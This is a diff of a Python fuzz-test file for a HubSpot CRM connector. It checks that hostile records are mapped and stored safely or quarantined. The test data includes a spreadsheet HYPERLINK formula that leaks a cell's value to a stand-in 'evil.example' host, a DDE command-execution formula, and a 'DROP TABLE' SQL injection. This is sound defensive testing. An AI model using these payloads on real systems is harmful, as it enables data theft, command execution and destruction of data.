@@ -23,8 +23,6 @@ from analytics.schema import COLUMNS
 from connectors.hubspot import mapping
 from connectors.hubspot.settings import DEAL_PROPERTIES, PropertyChoices, contact_properties
 from data import repository as repo
-from data.engine import make_engine, upgrade
-from tests.conftest import postgres_url, reset_postgres, skip_or_fail
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -90,20 +88,6 @@ owner = st.fixed_dictionaries(
 _sources = itertools.count()
 
 
-@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
-def hub_engine(request, tmp_path_factory):
-    if request.param == "sqlite":
-        engine = make_engine(f"sqlite:///{tmp_path_factory.mktemp('hostile-hubspot') / 'accord.db'}")
-        upgrade(engine)
-    else:
-        url = postgres_url()
-        if url is None:
-            skip_or_fail("no PostgreSQL: set ACCORD_TEST_POSTGRES_URL to run the PostgreSQL variant")
-        engine = reset_postgres(url)
-    yield engine
-    engine.dispose()
-
-
 def canonical(frame: pd.DataFrame, table: str) -> None:
     for name in frame.columns:
         assert str(frame[name].dtype) == COLUMNS[table][name], (table, name, frame[name].dtype)
@@ -134,23 +118,23 @@ HYPOTHESIS = settings(max_examples=80, deadline=None,
 
 @HYPOTHESIS
 @given(owners=st.lists(owner, max_size=6), contacts=st.lists(record(CONTACT_PROPERTIES), max_size=8))
-def test_hostile_owners_and_contacts(hub_engine, owners, contacts):
+def test_hostile_owners_and_contacts(fuzz_engine, owners, contacts):
     source = f"hub{next(_sources)}"
-    tables = sorted(inspect(hub_engine).get_table_names())
+    tables = sorted(inspect(fuzz_engine).get_table_names())
     owner_rows = mapping.owners_frame(owners)
     canonical(owner_rows.frame, "owners")
     assert len(owner_rows.frame) + len(owner_rows.rejected) == len(owners)
     assert all(r["reasons"] for r in owner_rows.rejected)
-    store(hub_engine, "owners", owner_rows, source)
+    store(fuzz_engine, "owners", owner_rows, source)
 
     mapped = mapping.leads_frame(contacts)
     canonical(mapped.frame, "leads")
     assert len(mapped.frame) + len(mapped.rejected) == len(contacts)
     assert all(r["reasons"] for r in mapped.rejected)
-    store(hub_engine, "leads", mapped, source)
+    store(fuzz_engine, "leads", mapped, source)
 
-    assert sorted(inspect(hub_engine).get_table_names()) == tables
-    leads = repo.read_leads(hub_engine)
+    assert sorted(inspect(fuzz_engine).get_table_names()) == tables
+    leads = repo.read_leads(fuzz_engine)
     leads = leads[leads["source"] == source]
     assert set(leads["external_id"]) == set(mapped.frame["external_id"])
     segments = sent(contacts, "accord_segment")
@@ -161,18 +145,18 @@ def test_hostile_owners_and_contacts(hub_engine, owners, contacts):
 @HYPOTHESIS
 @given(deals=st.lists(record(DEAL_PROPERTIES), max_size=8),
        calls=st.lists(record(["hs_timestamp", "hubspot_owner_id"]), max_size=8))  # fmt: skip
-def test_hostile_deals_and_activities(hub_engine, deals, calls):
+def test_hostile_deals_and_activities(fuzz_engine, deals, calls):
     source = f"hub{next(_sources)}"
-    tables = sorted(inspect(hub_engine).get_table_names())
+    tables = sorted(inspect(fuzz_engine).get_table_names())
     stages = mapping.stage_index([{"id": "default", "label": "=cmd|' /C calc'!A0", "stages": [
         {"id": "closedwon", "label": "'; DROP TABLE deals; --", "metadata": {"isClosed": "true", "probability": "1.0"}},
         {"id": "x", "label": None, "metadata": {"isClosed": "maybe", "probability": "lots"}}]}])  # fmt: skip
     mapped = mapping.deals_frame(deals, stages)
     canonical(mapped.frame, "deals")
     assert len(mapped.frame) + len(mapped.rejected) == len(deals)
-    store(hub_engine, "deals", mapped, source)
+    store(fuzz_engine, "deals", mapped, source)
     names = sent(deals, "dealname")
-    stored = repo.read_deals(hub_engine)
+    stored = repo.read_deals(fuzz_engine)
     stored = stored[stored["source"] == source]
     for external_id, name in zip(stored["external_id"], stored["name"], strict=True):
         assert (None if pd.isna(name) else name) in names[external_id]
@@ -180,8 +164,8 @@ def test_hostile_deals_and_activities(hub_engine, deals, calls):
     activities = mapping.activities_frame(calls, "calls", "call")
     canonical(activities.frame, "activities")
     assert len(activities.frame) + len(activities.rejected) == len(calls)
-    store(hub_engine, "activities", activities, source)
-    assert sorted(inspect(hub_engine).get_table_names()) == tables
+    store(fuzz_engine, "activities", activities, source)
+    assert sorted(inspect(fuzz_engine).get_table_names()) == tables
 
 
 @pytest.mark.parametrize(
@@ -227,25 +211,25 @@ def test_hostile_deals_and_activities(hub_engine, deals, calls):
         ),
     ],
 )
-def test_known_hostile_records(hub_engine, frame, table, record):
+def test_known_hostile_records(fuzz_engine, frame, table, record):
     """Records the fuzzers above found trouble with: each is mapped and stored, or quarantined, never a crash."""
     source = f"known{next(_sources)}"
     mapped = getattr(mapping, frame)([record])
     assert len(mapped.frame) + len(mapped.rejected) == 1
-    store(hub_engine, table, mapped, source)
+    store(fuzz_engine, table, mapped, source)
     reader = {"leads": repo.read_leads, "deals": repo.read_deals}[table]
-    stored = reader(hub_engine)
+    stored = reader(fuzz_engine)
     assert (stored["source"] == source).sum() == len(mapped.frame)
 
 
 @pytest.mark.parametrize(
     "owner", [{"id": "7", "email": "e" * 330 + "@x.example"}, {"id": "8", "firstName": "n" * 300}]
 )
-def test_known_hostile_owners(hub_engine, owner):
+def test_known_hostile_owners(fuzz_engine, owner):
     source = f"known{next(_sources)}"
-    store(hub_engine, "owners", mapping.owners_frame([owner]), source)
-    stored = (repo.read_owners(hub_engine)["source"] == source).sum()
-    kept = len(repo.read_rejected_rows(hub_engine, source=source))
+    store(fuzz_engine, "owners", mapping.owners_frame([owner]), source)
+    stored = (repo.read_owners(fuzz_engine)["source"] == source).sum()
+    kept = len(repo.read_rejected_rows(fuzz_engine, source=source))
     assert stored + kept == 1  # stored (as sent), or quarantined with its reason
 
 
